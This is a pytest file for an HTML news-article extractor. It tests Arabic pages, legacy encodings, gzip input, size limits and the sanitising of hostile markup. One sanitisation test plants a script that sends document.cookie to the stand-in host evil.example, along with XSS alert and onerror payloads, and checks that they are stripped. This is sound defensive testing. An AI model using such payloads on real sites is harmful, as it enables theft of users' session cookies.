"""HTML pages: real pages from ../shared, legacy encodings, size limits, hostile markup."""

from __future__ import annotations

import gzip
import json
import tracemalloc
from pathlib import Path
from typing import Any

import pytest

from marsad.model import Article
from marsad.outcomes import Rejected
from marsad.sources import iter_source
from marsad.sources.common import Origin
from marsad.sources.encoding import decode
from marsad.sources.html import extract

N4K = Path("html") / "newspaper4k_multilingual" / "tests" / "data"
TRAF = Path("html") / "trafilatura_eval"

ARABIC_PAGE = """<html><head><title>{title}</title></head><body>
<div class="menu"><a href="/">الرئيسية</a> | <a href="/sport">رياضة</a></div>
<article><h1>{title}</h1>
<p>أعلنت وزارة الصحة اليوم عن افتتاح مستشفى جديد في مدينة صفاقس يضم مئتي سرير وقسماً للطوارئ.</p>
<p>وقال الوزير في مؤتمر صحفي إن المستشفى سيخدم سكان الولاية والولايات المجاورة، مضيفاً أن الأشغال استغرقت ثلاث سنوات.</p>
<p>وأكد مدير المستشفى أن الفريق الطبي اكتمل وأن الخدمات ستبدأ الأسبوع المقبل بعد استكمال التجهيزات الضرورية.</p>
{extra}
</article></body></html>"""
TITLE = "افتتاح مستشفى جديد في صفاقس"


def _one(target: Path | str) -> Article | Rejected:
    items = list(iter_source(str(target)))
    assert len(items) == 1, items
    return items[0]


def test_cnn_arabic_page(shared: Path) -> None:
    page = shared / N4K / "html" / "arabic_article.html"
    expected = json.loads((shared / N4K / "metadata" / "arabic_article.json").read_text(encoding="utf-8"))
    article = _one(page)
    assert isinstance(article, Article)
    assert article.title == expected["title"]
    assert article.url == expected["canonical_link"]
    assert article.outlet == expected["meta_site_name"]
    assert article.language == "ar"
    assert article.published is None  # the page states no date; none is invented
    gold = [p.strip() for p in expected["text"].split("\n") if p.strip()]
    assert article.body.startswith(gold[0][:60])
    found = sum(1 for p in gold if p[:40] in article.body)
    assert found >= 0.8 * len(gold)
    assert "advertisement" not in article.body.lower()


def _eval_cases(shared: Path) -> list[tuple[str, dict[str, Any]]]:
    data = json.loads((shared / TRAF / "evaldata.json").read_text(encoding="utf-8"))
    # the Arabic page plus the first few dated news-like pages, fixed by order in the file
    arabic = [(u, v) for u, v in data.items() if v["file"].startswith("assabah")]
    dated = [(u, v) for u, v in data.items() if v.get("date") and v.get("title")][:4]
    return arabic + dated


def test_trafilatura_eval_pages(shared: Path) -> None:
    cases = _eval_cases(shared)
    assert len(cases) == 5
    hits = checks = dates = dated = 0
    for url, case in cases:
        name = str(case["file"])
        path = (
            shared / TRAF / name
            if (shared / TRAF / name).exists()
            else shared / TRAF / "pages" / f"{name}.gz"
        )
        raw = path.read_bytes()
        data = gzip.decompress(raw) if raw[:2] == b"\x1f\x8b" else raw
        article = extract(data, Origin("html", str(path)), url=url)
        assert isinstance(article, Article), (name, article)
        for snippet in case["with"]:
            checks += 1
            hits += snippet in article.body or snippet in article.title
        for snippet in case["without"]:
            checks += 1
            hits += snippet not in article.body
        if case.get("date"):
            dated += 1
            dates += article.published is not None and article.published.date().isoformat() == case["date"]
    assert hits >= 0.85 * checks
    assert dates >= dated - 1


def test_arabic_eval_page_title(shared: Path) -> None:
    article = _one(shared / TRAF / "assabah.com.tn.article.html")
    assert isinstance(article, Article)
    assert article.title.startswith("الناشط الحقوقي السوداني")
    assert "إضافة تعليق جديد" not in article.body


def test_cp1256_without_charset(tmp_path: Path) -> None:
    page = tmp_path / "legacy.html"
    page.write_bytes(ARABIC_PAGE.format(title=TITLE, extra="").encode("cp1256"))
    article = _one(page)
    assert isinstance(article, Article)
    assert article.title == TITLE
    assert "مستشفى جديد في مدينة صفاقس" in article.body
    assert "Ø" not in article.body and "\ufffd" not in article.body


def test_declared_charset_and_gzip(tmp_path: Path) -> None:
    html = ARABIC_PAGE.format(title=TITLE, extra="").replace("<head>", '<head><meta charset="windows-1256">')
    page = tmp_path / "declared.html.gz"
    page.write_bytes(gzip.compress(html.encode("cp1256")))
    article = _one(page)
    assert isinstance(article, Article) and article.title == TITLE


@pytest.mark.parametrize(
    ("text", "codec"),
    [
        ("<p>L'été à Paris, ça déménage: élève, crème brûlée.</p>" * 3, "latin-1"),
        ("<p>قال المتحدث إن الاجتماع سيعقد غداً في القاهرة.</p>", "cp1256"),
        ("<p>قال المتحدث إن الاجتماع سيعقد غداً في القاهرة.</p>", "utf-8"),
    ],
)
def test_decode_round_trips(text: str, codec: str) -> None:
    assert decode(text.encode(codec), html=True)[0] == text


def test_hostile_script_never_reaches_the_body(tmp_path: Path) -> None:
    hostile = (
        '<script>document.location="http://evil.example/?c="+document.cookie</script>'
        "<p>فقرة أخيرة من الخبر عن المستشفى الجديد وخدماته للمواطنين في الجهة كلها.</p>"
        '<script type="text/javascript">alert("xss")</script><style>p{display:none}</style>'
        '<img src=x onerror="alert(1)"><noscript>تفعيل جافاسكريبت</noscript>'
    )
    page = tmp_path / "hostile.html"
    page.write_text(ARABIC_PAGE.format(title=TITLE, extra=hostile), encoding="utf-8")
    article = _one(page)
    assert isinstance(article, Article)
    assert "فقرة أخيرة من الخبر" in article.body
    for bad in ("document.cookie", "alert", "evil.example", "display:none", "<script", "onerror"):
        assert bad not in article.body and bad not in article.title


def test_fifty_megabyte_page_is_refused_without_reading_it(tmp_path: Path) -> None:
    page = tmp_path / "huge.html"
    para = ("<p>" + "نص طويل جداً " * 40 + "</p>\n").encode("utf-8")
    with page.open("wb") as fh:
        fh.write(b"<html><body><article>")
        while fh.tell() < 50 * 1024 * 1024:
            fh.write(para * 200)
        fh.write(b"</article></body></html>")
    tracemalloc.start()
    item = _one(page)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert isinstance(item, Rejected) and item.outcome == "discarded:too-large"
    assert peak < 25 * 1024 * 1024  # at most fetch.max_bytes (10 MB) was held


def test_page_without_text_is_named(tmp_path: Path) -> None:
    page = tmp_path / "empty-shell.html"
    page.write_text(
        "<html><head><title>x</title></head><body><script>var a = 1;</script><div></div></body></html>",
        encoding="utf-8",
    )
    item = _one(page)
    assert isinstance(item, Rejected) and item.outcome == "discarded:no-text"


def test_folder_of_pages(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "one.html").write_text(ARABIC_PAGE.format(title="الأول", extra=""), encoding="utf-8")
    (tmp_path / "two.htm").write_text(ARABIC_PAGE.format(title="الثاني", extra=""), encoding="utf-8")
    (tmp_path / "notes.bin").write_bytes(b"\x00\x01binary")
    (tmp_path / ".hidden.html").write_text("<html></html>", encoding="utf-8")
    items = list(iter_source(str(tmp_path)))
    titles = sorted(i.title for i in items if isinstance(i, Article))
    assert titles == ["الأول", "الثاني"]
    rejected = [i for i in items if isinstance(i, Rejected)]
    assert [r.outcome for r in rejected] == ["discarded:unsupported"]
    ids = [i.id for i in items if isinstance(i, Article)]
    assert len(set(ids)) == 2
